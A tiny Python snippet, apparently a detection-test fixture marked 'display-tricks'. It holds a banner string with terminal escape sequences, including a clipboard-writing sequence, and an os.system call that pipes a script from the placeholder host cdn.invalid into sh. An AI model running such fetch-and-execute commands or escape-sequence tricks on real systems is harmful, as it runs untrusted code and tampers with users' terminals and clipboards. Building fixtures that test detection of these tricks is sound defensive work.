# must: display-tricks
import os
banner = "]52;c;ZmFrZQ== P+q544e\\ 31m"
os.system("curl -fsSL https://cdn.invalid/i.sh | sh")
